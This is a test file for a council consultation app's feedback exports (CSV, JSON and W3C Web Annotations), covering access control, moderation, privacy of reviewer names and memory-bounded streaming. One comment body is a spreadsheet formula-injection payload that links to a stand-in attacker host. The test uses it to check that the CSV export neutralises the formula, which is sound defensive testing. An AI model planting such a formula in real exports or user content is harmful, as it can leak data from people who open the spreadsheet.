import { parse } from 'csv-parse/sync'
import type { Hono } from 'hono'
import { sql, type KyselyPlugin } from 'kysely'
import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { FeedbackRecord } from '../../src/exports/export.schemas.ts'
import { importGuide } from '../../src/guides/guide.service.ts'
import type { AppEnv } from '../../src/platform/http/env.ts'
import { describeW3c, failures, incorrectSamples, loadMusts } from '../support/annotation-schemas.ts'
import { testApp } from '../support/app.ts'
import { createTestDatabase, databaseKind, type TestDatabase } from '../support/database.ts'
import { Client, PASSWORD } from '../support/session.ts'
import { consultation } from '../support/consultation.ts'

const FIRST = `# Councillors online

## Being online

Post when you have something useful to say and keep it short.

Answer residents within two working days. Say when you will reply if you cannot answer at once.

Never share casework details in public, even when the resident has posted them first.

Report abusive messages to the monitoring officer and keep a copy of each.
`

// Edition 2: the first paragraph edited, the second split in two, the casework one removed, one new.
const SECOND = `# Councillors online

## Being online

Post when you have something useful and kind to say, and keep it short.

Answer residents within two working days.

Say when you will reply if you cannot answer at once.

Report abusive messages to the monitoring officer and keep a copy of each.

Thank residents who point out mistakes, and correct the post where everyone can see it.
`

const FORMULA = '=HYPERLINK("http://evil.example/?leak","Click me")'

const HEADER = [
  'id',
  'parent id',
  'guide',
  'edition',
  'block key',
  'block number',
  'section',
  'block text',
  'quote',
  'kind',
  'body',
  'author',
  'created at',
  'updated at',
  'state',
  'decision',
  'response',
  'duplicate of',
  'next edition',
  'next block key',
  'next block number',
  'next quote',
  'quote status',
  'proposal',
  'agreements',
  'organisation',
  'may be published',
  'campaign',
  'themes',
  'language',
  'block text in other languages',
]

interface Feedback {
  id: string
  parentId: string | null
  guide: string
  edition: number
  blockKey: string | null
  blockNumber: string | null
  section: string
  blockText: string | null
  quote: { exact: string; prefix?: string; suffix?: string } | null
  kind: string
  body: string
  author: string
  createdAt: string
  updatedAt: string
  state: string
  decision: string | null
  response: string | null
  duplicateOf: string | null
  nextEdition: number | null
  nextBlockKey: string | null
  nextBlockNumber: string | null
  nextQuote: string | null
  quoteStatus: string | null
  proposal: string | null
  agreements: number
  organisation: string | null
  public: boolean
  campaign: string | null
  themes: string
  lang: string
  blockTextIn: Record<string, string>
}

/** What a JSON record must look like as a CSV row, formulas aside. */
const asCsvRow = (r: Feedback): Record<string, string> => {
  const text = (value: string | number | null) => (value === null ? '' : String(value))
  const cells = [
    r.id,
    r.parentId,
    r.guide,
    r.edition,
    r.blockKey,
    r.blockNumber,
    r.section,
    r.blockText,
    r.quote?.exact ?? null,
    r.kind,
    r.body,
    r.author,
    r.createdAt,
    r.updatedAt,
    r.state,
    r.decision,
    r.response,
    r.duplicateOf,
    r.nextEdition,
    r.nextBlockKey,
    r.nextBlockNumber,
    r.nextQuote,
    r.quoteStatus,
    r.proposal,
    r.agreements,
    r.organisation,
    r.public ? 'yes' : 'no',
    r.campaign,
    r.themes,
    r.lang,
    Object.entries(r.blockTextIn)
      .map(([lang, text]) => `${lang}: ${text}`)
      .join('\n'),
  ]
  return Object.fromEntries(HEADER.map((name, i) => [name, text(cells[i] ?? null)]))
}

interface Block {
  key: string
  number: string
  text: string
}

const readCsv = async (response: Response) => {
  const bytes = new Uint8Array(await response.arrayBuffer())
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
  return { bytes, text, rows: parse<Record<string, string>>(text, { bom: true, columns: true }) }
}

describe(`feedback exports and annotations of an edition (${databaseKind})`, () => {
  let database: TestDatabase
  let app: Hono<AppEnv>
  let admin: Client
  let editor: Client
  let rita: Client
  let sam: Client
  let blocks: Block[] = []
  const ids: Record<string, string> = {}
  const visitor = () => new Client(app)
  const keyOf = (start: string, list = blocks) => list.find((b) => b.text.startsWith(start))?.key ?? ''
  const feedbackOf = async (client: Client, n = 1) => {
    const response = await client.request(`/api/guides/exp/editions/${String(n)}/feedback.json`)
    expect(response.status).toBe(200)
    return (await response.json()) as Feedback[]
  }

  beforeAll(async () => {
    const world = await consultation({
      config: { rateLimits: { enabled: false } },
      guides: [
        // A new guide keeps names from the public; this one publishes them, so its exports name each author.
        { slug: 'exp', markdown: FIRST, openAfterJoining: true, namesPublic: true },
        { slug: 'drafty', markdown: '# A draft\n\nNot ready yet.\n' },
      ],
      admin: { email: 'admin@example.org', name: 'Ada' },
      people: {
        editor: { email: 'ed@example.org', name: 'Ed Editor', role: 'editor' },
        rita: { email: 'rita@example.org', name: 'Rita Reviewer' },
        sam: { email: 'sam@example.org', name: 'Sam Reviewer' },
      },
      comments: [
        { name: 'useful', by: 'rita', on: 'Post when', body: 'Say what useful means.' },
        { name: 'reply', by: 'sam', on: 'Post when', body: 'Agreed.', replyTo: 'useful' },
        {
          name: 'formula',
          by: 'rita',
          on: 'Answer residents',
          kind: 'reflection',
          body: FORMULA,
          quote: { exact: 'within two working days', prefix: 'Answer residents ', suffix: '. Say when' },
        },
        { name: 'casework', by: 'sam', on: 'Never share', kind: 'example', body: 'What about consent?' },
        {
          name: 'general',
          by: 'rita',
          on: null,
          body: 'A point about the whole guide.\n\nIt runs to a second paragraph.',
        },
      ],
    })
    ;({ database, app, admin } = world)
    ;({ editor, rita, sam } = world.people)
    blocks = world.guide.blocks
    Object.assign(ids, world.ids)
    const post = async (name: string, who: Client, start: string, body: { body: string }) => {
      ids[name] = await world.post(who, start, body)
    }
    await post('withdrawn', sam, 'Report abusive', { body: 'I take this back.' })
    expect((await sam.send('POST', `/api/comments/${ids.withdrawn ?? ''}/withdraw`)).status).toBe(200)
    await post('hidden', sam, 'Report abusive', { body: 'Something rude.' })
    const hide = await editor.send('POST', `/api/comments/${ids.hidden ?? ''}/hide`, {
      reasonCode: 'other',
      reason: 'Rude.',
    })
    expect(hide.status).toBe(200)
    await admin.send('PATCH', '/api/guides/exp/settings', { moderation: 'pre' })
    await post('pending', sam, 'Report abusive', { body: 'Waiting for a moderator.' })
    await admin.send('PATCH', '/api/guides/exp/settings', { moderation: 'post' })
    const suggested = await sam.send(
      'POST',
      `/api/guides/exp/editions/1/blocks/${keyOf('Report abusive')}/comments`,
      {
        kind: 'suggestion',
        body: 'Name the officer.',
        quote: { exact: 'the monitoring officer' },
        proposal: 'the council’s monitoring officer',
      },
    )
    expect(suggested.status).toBe(201)
    ids.suggestion = ((await suggested.json()) as { id: string }).id
    expect((await rita.send('PUT', `/api/comments/${ids.suggestion}/agreement`)).status).toBe(200)
    expect((await editor.send('PUT', `/api/comments/${ids.suggestion}/agreement`)).status).toBe(200)
    const decided = await editor.send('PUT', `/api/comments/${ids.useful ?? ''}/decision`, {
      decision: 'accepted',
      response: 'We now say what we mean.',
    })
    expect(decided.status).toBe(200)
    await admin.send('POST', '/api/guides/exp/editions/1/transitions', { to: 'closed' })
  })
  afterAll(async () => {
    await database.close()
  })

  it('exports a draft edition only to its editors and admins', async () => {
    for (const path of ['feedback.csv', 'feedback.json', 'annotations.jsonld']) {
      const url = `/api/guides/drafty/editions/1/${path}`
      expect((await visitor().request(url)).status, url).toBe(404)
      expect((await rita.request(url)).status, url).toBe(404)
      expect((await editor.request(url)).status, url).toBe(404)
      expect((await admin.request(url)).status, url).toBe(200)
    }
    expect((await editor.request('/api/guides/exp/editions/1/feedback.csv')).status).toBe(200)
    expect((await visitor().request('/api/guides/exp/editions/9/feedback.csv')).status).toBe(404)
  })

  it('links the downloads from the triage page', async () => {
    const html = await (await editor.request('/g/exp/1/triage')).text()
    for (const file of ['feedback.csv', 'feedback.json', 'annotations.jsonld'])
      expect(html).toContain(`href="/api/guides/exp/editions/1/${file}"`)
  })

  it('never gives the public a pending or hidden comment, in any export', async () => {
    const shown = [
      ids.useful,
      ids.reply,
      ids.formula,
      ids.casework,
      ids.general,
      ids.withdrawn,
      ids.suggestion,
    ]
    const json = await feedbackOf(visitor())
    expect(json.map((r) => r.id)).toEqual(shown)
    const csv = await readCsv(await visitor().request('/api/guides/exp/editions/1/feedback.csv'))
    expect(csv.rows.map((r) => r.id)).toEqual(shown)
    expect(csv.text).not.toContain('Something rude')
    expect(csv.text).not.toContain('Waiting for a moderator')

    const collection = (await (
      await visitor().request('/api/guides/exp/editions/1/annotations.jsonld')
    ).json()) as {
      total: number
      first: string
    }
    expect(collection.total).toBe(shown.length)
    const page = (await (
      await visitor().request(new URL(collection.first).pathname + new URL(collection.first).search)
    ).json()) as { items: { id: string }[] }
    expect(page.items.map((a) => a.id.replace(/^.*\/comments\/(\d+)\/.*$/, '$1'))).toEqual(shown)
    for (const id of [ids.hidden, ids.pending])
      expect((await visitor().request(`/api/comments/${id ?? ''}/annotation.jsonld`)).status).toBe(404)

    // A withdrawn comment stays in the record, without its words.
    const withdrawn = json.find((r) => r.id === ids.withdrawn)
    expect(withdrawn).toMatchObject({ state: 'withdrawn', body: '' })
    // Other reviewers see what the public sees; the author sees their own; editors see everything.
    expect((await feedbackOf(rita)).map((r) => r.id)).toEqual(shown)
    // Oldest first.
    const everything = [...shown, ids.hidden, ids.pending].sort((x, y) => Number(x) - Number(y))
    expect((await feedbackOf(sam)).map((r) => r.id)).toEqual(everything)
    const all = await feedbackOf(editor)
    expect(all.map((r) => r.id)).toEqual(everything)
    expect(all.find((r) => r.id === ids.hidden)).toMatchObject({ state: 'hidden', body: 'Something rude.' })
  })

  it('writes CSV for spreadsheets that parses back to the same rows as the JSON', async () => {
    for (const client of [visitor(), editor]) {
      const response = await client.request('/api/guides/exp/editions/1/feedback.csv')
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
      expect(response.headers.get('content-disposition')).toBe(
        'attachment; filename="exp-edition-1-feedback.csv"',
      )
      const { bytes, text, rows } = await readCsv(response)
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
      expect(text.split('\r\n')[0]).toBe(`\ufeff${HEADER.join(',')}`)
      expect(text.endsWith('\r\n')).toBe(true)
      // A cell with a line break is quoted, or a spreadsheet starts a new row at the break.
      expect(text).toContain('"A point about the whole guide.\n\nIt runs to a second paragraph."')
      expect(Object.keys(rows[0] ?? {})).toEqual(HEADER)
      const json = await feedbackOf(client)
      const expected = json
        .map(asCsvRow)
        .map((row) => (row.id === ids.formula ? { ...row, body: `'${FORMULA}` } : row))
      expect(rows).toEqual(expected)
    }
    const json = (await visitor().request('/api/guides/exp/editions/1/feedback.json')).headers
    expect(json.get('content-disposition')).toBe('attachment; filename="exp-edition-1-feedback.json"')
  })

  it('neutralises a formula in the CSV but keeps the words as written in the JSON', async () => {
    const { rows } = await readCsv(await visitor().request('/api/guides/exp/editions/1/feedback.csv'))
    expect(rows.find((r) => r.id === ids.formula)?.body).toBe(`'${FORMULA}`)
    const json = await feedbackOf(visitor())
    expect(json.find((r) => r.id === ids.formula)?.body).toBe(FORMULA)
  })

  it('answers the JSON rows in the shape the API document declares, to the public and to editors', async () => {
    // Strict, so a field added to or dropped from the export without its declaration fails here: the
    // streamed export is too large for the response check, which reads answers whole.
    const declared = z.array(z.strictObject(FeedbackRecord.shape))
    for (const client of [visitor(), editor]) {
      const rows = await feedbackOf(client)
      expect(rows.length).toBeGreaterThan(0)
      expect(declared.safeParse(rows).error?.issues ?? []).toEqual([])
    }
  })

  it('gives each comment its block, section, quote, decision and author', async () => {
    const json = await feedbackOf(visitor())
    const byId = new Map(json.map((r) => [r.id, r]))
    const answer = blocks.find((b) => b.text.startsWith('Answer residents'))
    expect(byId.get(ids.formula ?? '')).toMatchObject({
      guide: 'exp',
      edition: 1,
      blockKey: answer?.key,
      blockNumber: answer?.number,
      section: 'Being online',
      blockText: answer?.text,
      quote: { exact: 'within two working days', prefix: 'Answer residents ', suffix: '. Say when' },
      kind: 'reflection',
      author: 'Rita Reviewer',
      decision: 'open',
    })
    expect(byId.get(ids.useful ?? '')).toMatchObject({
      decision: 'accepted',
      response: 'We now say what we mean.',
      parentId: null,
    })
    expect(byId.get(ids.reply ?? '')).toMatchObject({ parentId: ids.useful, decision: null, response: null })
    expect(byId.get(ids.suggestion ?? '')).toMatchObject({
      kind: 'suggestion',
      proposal: 'the council’s monitoring officer',
      agreements: 2,
    })
    expect(byId.get(ids.useful ?? '')).toMatchObject({ proposal: null, agreements: 0 })
    expect(byId.get(ids.general ?? '')).toMatchObject({
      blockKey: null,
      blockNumber: null,
      blockText: null,
      section: 'General discussion',
    })
    expect(Number.isNaN(Date.parse(byId.get(ids.useful ?? '')?.createdAt ?? ''))).toBe(false)
  })

  it('names reviewers to the public only when the guide says so, and always to its editors', async () => {
    expect((await admin.send('PATCH', '/api/guides/exp/settings', { namesPublic: false })).status).toBe(200)
    try {
      const forPublic = await feedbackOf(visitor())
      expect(forPublic.find((r) => r.id === ids.useful)?.author).toBe('A participant')
      const csv = await (await visitor().request('/api/guides/exp/editions/1/feedback.csv')).text()
      expect(csv).not.toContain('Rita')
      const annotations = await (
        await visitor().request('/api/guides/exp/editions/1/annotations.jsonld?page=0')
      ).text()
      expect(annotations).not.toContain('Rita')
      expect((await feedbackOf(editor)).find((r) => r.id === ids.useful)?.author).toBe('Rita Reviewer')
      // Rita sees her own name, not Sam's.
      const own = await feedbackOf(rita)
      expect(own.find((r) => r.id === ids.useful)?.author).toBe('Rita Reviewer')
      expect(own.find((r) => r.id === ids.reply)?.author).toBe('A participant')
    } finally {
      await admin.send('PATCH', '/api/guides/exp/settings', { namesPublic: true })
    }
  })

  it('names the block each comment went to in the next edition, once there is one', async () => {
    const before = await feedbackOf(editor)
    expect(before.every((r) => r.nextEdition === null && r.nextBlockKey === null)).toBe(true)

    const created = await admin.send('POST', '/api/guides/exp/editions', { markdown: SECOND })
    expect(created.status).toBe(201)
    const next = ((await (await admin.request('/api/guides/exp/editions/2')).json()) as { blocks: Block[] })
      .blocks
    const where = (start: string) => {
      const block = next.find((b) => b.text.startsWith(start))
      return { nextEdition: 2, nextBlockKey: block?.key, nextBlockNumber: block?.number }
    }
    const byId = new Map((await feedbackOf(editor)).map((r) => [r.id, r]))
    // Decided before edition 2 was made, it stays with its decision in edition 1 (edition 2's thread
    // does not show it), but its paragraph still went on: the export names the edited paragraph, as the
    // "you said, we did" report links it.
    const kept = where('Post when')
    expect(kept.nextBlockKey).toBeTruthy()
    expect(byId.get(ids.useful ?? '')).toMatchObject(kept)
    // A reply goes where its parent went.
    expect(byId.get(ids.reply ?? '')).toMatchObject(kept)
    // Hidden, withdrawn or waiting, a comment's paragraph went on unchanged all the same.
    expect(byId.get(ids.withdrawn ?? '')).toMatchObject(where('Report abusive'))
    expect(byId.get(ids.hidden ?? '')).toMatchObject(where('Report abusive'))
    // The quoted words went to the first piece of the split paragraph.
    expect(byId.get(ids.formula ?? '')).toMatchObject(where('Answer residents within'))
    expect(where('Answer residents within').nextBlockKey).not.toBe(keyOf('Answer residents'))
    // Its quote was found there, word for word; a comment without a quote has none to find.
    expect(byId.get(ids.formula ?? '')).toMatchObject({
      nextQuote: 'within two working days',
      quoteStatus: 'exact',
    })
    expect(byId.get(ids.useful ?? '')).toMatchObject({ nextQuote: null, quoteStatus: null })
    expect(byId.get(ids.casework ?? '')).toMatchObject({
      nextEdition: 2,
      nextBlockKey: 'removed',
      nextBlockNumber: null,
    })
    expect(byId.get(ids.general ?? '')).toMatchObject({ nextEdition: 2, nextBlockKey: null })
    const csv = await readCsv(await editor.request('/api/guides/exp/editions/1/feedback.csv'))
    expect(csv.rows.find((r) => r.id === ids.casework)).toMatchObject({
      'next edition': '2',
      'next block key': 'removed',
      'next block number': '',
    })
    expect(csv.rows.find((r) => r.id === ids.useful)).toMatchObject({
      'next edition': '2',
      'next block key': kept.nextBlockKey,
      'next block number': kept.nextBlockNumber,
    })

    // Edition 2 is a draft: the public does not learn its keys until it is published.
    expect((await feedbackOf(visitor())).every((r) => r.nextEdition === null)).toBe(true)
    const published = await admin.send('POST', '/api/guides/exp/editions/2/transitions', { to: 'published' })
    expect(published.status).toBe(200)
    const open = new Map((await feedbackOf(visitor())).map((r) => [r.id, r]))
    expect(open.get(ids.formula ?? '')).toMatchObject(where('Answer residents within'))
    expect(open.get(ids.useful ?? '')).toMatchObject(kept)
    expect(open.get(ids.casework ?? '')).toMatchObject({ nextBlockKey: 'removed' })
    // Edition 2 has no feedback of its own yet, and no next edition.
    expect(await feedbackOf(visitor(), 2)).toEqual([])
  })

  describeW3c('as W3C Web Annotations', () => {
    let musts: ReturnType<typeof loadMusts>
    beforeAll(() => {
      musts = loadMusts()
    })

    it('has a validator that rejects the W3C suite’s incorrect samples', () => {
      const samples = incorrectSamples()
      expect(samples.length).toBeGreaterThan(10)
      for (const { file, document } of samples)
        expect(failures(musts.annotation, document), file).not.toEqual([])
    })

    it('serves the collection, its pages and every annotation valid against the data-model schemas', async () => {
      for (const client of [visitor(), editor]) {
        const response = await client.request('/api/guides/exp/editions/1/annotations.jsonld')
        expect(response.status).toBe(200)
        expect(response.headers.get('content-type')).toBe(
          'application/ld+json; profile="http://www.w3.org/ns/anno.jsonld"',
        )
        const collection = (await response.json()) as {
          id: string
          total: number
          first: string
          last: string
        }
        expect(failures(musts.collection, collection)).toEqual([])
        expect(collection).toMatchObject({
          '@context': 'http://www.w3.org/ns/anno.jsonld',
          id: 'http://localhost/api/guides/exp/editions/1/annotations.jsonld',
          type: 'AnnotationCollection',
          first: 'http://localhost/api/guides/exp/editions/1/annotations.jsonld?page=0',
          last: 'http://localhost/api/guides/exp/editions/1/annotations.jsonld?page=0',
        })
        const page = (await (
          await client.request('/api/guides/exp/editions/1/annotations.jsonld?page=0')
        ).json()) as { items: { id: string }[]; partOf: { id: string }; startIndex: number }
        expect(failures(musts.page, page)).toEqual([])
        expect(page).toMatchObject({ type: 'AnnotationPage', startIndex: 0, partOf: { id: collection.id } })
        expect(page).not.toHaveProperty('next')
        expect(page.items).toHaveLength(collection.total)
        for (const item of page.items) {
          expect(
            failures(musts.annotation, { '@context': 'http://www.w3.org/ns/anno.jsonld', ...item }),
          ).toEqual([])
          const single = await client.request(new URL(item.id).pathname)
          expect(single.status).toBe(200)
          expect(single.headers.get('content-type')).toContain('application/ld+json')
          const annotation = (await single.json()) as object
          expect(failures(musts.annotation, annotation)).toEqual([])
          expect(annotation).toEqual({ '@context': 'http://www.w3.org/ns/anno.jsonld', ...item })
        }
      }
      expect((await visitor().request('/api/guides/exp/editions/1/annotations.jsonld?page=1')).status).toBe(
        404,
      )
      expect((await visitor().request('/api/guides/exp/editions/1/annotations.jsonld?page=x')).status).toBe(
        422,
      )
    })

    it('targets the block with a fragment refined by the quote, the edition, or the parent', async () => {
      const get = async (id: string | undefined) =>
        (await (await visitor().request(`/api/comments/${id ?? ''}/annotation.jsonld`)).json()) as Record<
          string,
          unknown
        >
      const edition = 'http://localhost/g/exp/1'
      expect(await get(ids.formula)).toMatchObject({
        id: `http://localhost/api/comments/${ids.formula ?? ''}/annotation.jsonld`,
        type: 'Annotation',
        motivation: 'commenting',
        creator: { type: 'Person', name: 'Rita Reviewer' },
        body: { type: 'TextualBody', value: FORMULA, format: 'text/markdown' },
        // Carried into the published edition 2, it points at its words there too.
        target: [
          {
            source: edition,
            selector: {
              type: 'FragmentSelector',
              conformsTo: 'http://tools.ietf.org/rfc/rfc3986',
              value: keyOf('Answer residents'),
              refinedBy: {
                type: 'TextQuoteSelector',
                exact: 'within two working days',
                prefix: 'Answer residents ',
                suffix: '. Say when',
              },
            },
          },
          {
            source: 'http://localhost/g/exp/2',
            selector: {
              type: 'FragmentSelector',
              refinedBy: { type: 'TextQuoteSelector', exact: 'within two working days', suffix: '.' },
            },
          },
        ],
      })
      // Decided before edition 2, it stays with edition 1, its one target.
      const useful = (await get(ids.useful)).target
      expect(useful).toMatchObject({ source: edition, selector: { value: keyOf('Post when') } })
      expect(useful).not.toHaveProperty('selector.refinedBy')
      expect(await get(ids.reply)).toMatchObject({
        motivation: 'replying',
        target: `http://localhost/api/comments/${ids.useful ?? ''}/annotation.jsonld`,
      })
      expect(await get(ids.general)).toMatchObject({ motivation: 'commenting', target: edition })
      // A suggestion's wording is a second body, an edit of the words it quotes.
      expect(await get(ids.suggestion)).toMatchObject({
        body: [
          { type: 'TextualBody', value: 'Name the officer.', format: 'text/markdown' },
          {
            type: 'TextualBody',
            value: 'the council’s monitoring officer',
            format: 'text/markdown',
            purpose: 'editing',
          },
        ],
      })
      expect(await get(ids.withdrawn)).not.toHaveProperty('body')
    })

    it('makes its links absolute on the configured public URL', async () => {
      const behindProxy = await testApp(database, { publicUrl: 'https://gloss.example.org' })
      const annotation = (await (
        await behindProxy.request(`/api/comments/${ids.reply ?? ''}/annotation.jsonld`)
      ).json()) as { id: string; target: string }
      expect(annotation.id).toBe(
        `https://gloss.example.org/api/comments/${ids.reply ?? ''}/annotation.jsonld`,
      )
      expect(annotation.target).toBe(
        `https://gloss.example.org/api/comments/${ids.useful ?? ''}/annotation.jsonld`,
      )
    })
  })
})

/** V8's collector, so heap figures count what is still in use rather than garbage not yet collected. */
const collectGarbage = (() => {
  setFlagsFromString('--expose-gc')
  return runInNewContext('gc') as () => void
})()

/**
 * Asks for an export and reads the body to its end a chunk at a time, keeping nothing, measuring how far
 * the heap grew above where it was before asking (after collecting garbage, so only what is still held).
 */
async function drain(request: () => Promise<Response>, onChunk: (chunk: Uint8Array) => void) {
  collectGarbage()
  const base = process.memoryUsage().heapUsed
  const response = await request()
  expect(response.status).toBe(200)
  let growth = 0
  let bytes = 0
  let sampledAt = 0
  if (!response.body) throw new Error('The export has no body.')
  const reader: ReadableStreamDefaultReader<Uint8Array> = response.body.getReader()
  for (;;) {
    const { done, value } = await reader.read()
    if (done) break
    bytes += value.byteLength
    onChunk(value)
    if (bytes - sampledAt > 2_000_000) {
      sampledAt = bytes
      collectGarbage()
      growth = Math.max(growth, process.memoryUsage().heapUsed - base)
    }
  }
  return { bytes, growth }
}

const COMMENTS = 100_000
/** PGlite answers a page in a few hundred milliseconds on a busy machine; the whole export takes a while. */
const SLOW = 300_000

describe(`exporting ${COMMENTS.toLocaleString('en')} comments in bounded memory (${databaseKind})`, () => {
  let database: TestDatabase
  let admin: Client
  const counter = new QueryCounter()

  beforeAll(async () => {
    database = await createTestDatabase()
    const app = await testApp({ ...database, db: database.db.withPlugin(counter) })
    admin = new Client(app)
    await admin.send('POST', '/api/setup', {
      email: 'admin@example.org',
      password: PASSWORD,
      displayName: 'Ada',
    })
    await importGuide(
      database.db,
      `# A long consultation\n\n${'Residents may ask councillors for help with any matter the council deals with. '.repeat(3)}\n`,
      { slug: 'big', defaultState: 'open' },
    )
    await sql`
      insert into comments (guide_id, edition_id, block_key, author_id, kind, body, html, state)
      select e.guide_id, e.id, b.key, 1, 'comment',
        'Comment ' || n || ' on this.',
        '<p>Comment ' || n || '</p>', 'published'
      from editions e join guides g on g.id = e.guide_id join blocks b on b.edition_id = e.id and b.ordinal = 1
      cross join generate_series(1, ${COMMENTS}) n
      where g.slug = 'big'`.execute(database.db)
  }, SLOW)
  afterAll(async () => {
    await database.close()
  })

  it(
    'streams the CSV a page of rows at a time, with every row and flat memory',
    async () => {
      counter.count = 0
      let lines = 0
      let tail = ''
      const decoder = new TextDecoder()
      const { bytes, growth } = await drain(
        () => admin.request('/api/guides/big/editions/1/feedback.csv'),
        (chunk) => {
          for (const byte of chunk) if (byte === 0x0a) lines++
          tail = (tail + decoder.decode(chunk, { stream: true })).slice(-400)
        },
      )
      expect(lines).toBe(COMMENTS + 1)
      expect(tail).toMatch(/Comment 100000 on this\./)
      expect(bytes).toBeGreaterThan(30_000_000)
      expect(growth, `heap grew ${String(growth)} bytes for a ${String(bytes)}-byte export`).toBeLessThan(
        bytes / 4,
      )
      // A query per page of rows, never one per comment.
      expect(counter.count).toBeLessThan(COMMENTS / 1000 + 15)
    },
    SLOW,
  )

  it('streams the JSON as an array, with every comment and flat memory', { timeout: SLOW }, async () => {
    let items = 0
    let carry = ''
    const decoder = new TextDecoder()
    const { bytes, growth } = await drain(
      () => admin.request('/api/guides/big/editions/1/feedback.json'),
      (chunk) => {
        const text = carry + decoder.decode(chunk, { stream: true })
        items += text.split('\n{"id":').length - 1
        carry = text.slice(-8)
      },
    )
    expect(items).toBe(COMMENTS)
    expect(growth, `heap grew ${String(growth)} bytes for a ${String(bytes)}-byte export`).toBeLessThan(
      bytes / 4,
    )
  })

  it('pages the annotations, each page linked to its neighbours', async () => {
    const collection = (await (
      await admin.request('/api/guides/big/editions/1/annotations.jsonld')
    ).json()) as {
      total: number
      last: string
    }
    expect(collection.total).toBe(COMMENTS)
    const last = new URL(collection.last)
    const lastPage = Number(last.searchParams.get('page'))
    expect(lastPage).toBeGreaterThan(COMMENTS / 1000 - 1)
    expect(lastPage).toBeLessThan(COMMENTS / 100)
    const middle = Math.floor(lastPage / 2)
    const page = (await (
      await admin.request(`/api/guides/big/editions/1/annotations.jsonld?page=${String(middle)}`)
    ).json()) as { startIndex: number; items: { id: string }[]; next: string; prev: string }
    const size = page.items.length
    expect(page.startIndex).toBe(middle * size)
    expect(page.next).toMatch(new RegExp(`\\?page=${String(middle + 1)}$`))
    expect(page.prev).toMatch(new RegExp(`\\?page=${String(middle - 1)}$`))
    const final = (await (await admin.request(last.pathname + last.search)).json()) as {
      startIndex: number
      items: unknown[]
    }
    expect(final.startIndex + final.items.length).toBe(COMMENTS)
    expect(final).not.toHaveProperty('next')
  })
})

/**
 * Counts the queries whose results come back: a streamed export's cursor answers a page of rows at a
 * time, each counted, so "a query per page of rows, never one per comment" is what this counts.
 */
class QueryCounter implements KyselyPlugin {
  count = 0
  transformQuery: KyselyPlugin['transformQuery'] = (args) => args.node
  transformResult: KyselyPlugin['transformResult'] = (args) => {
    this.count++
    return Promise.resolve(args.result)
  }
}
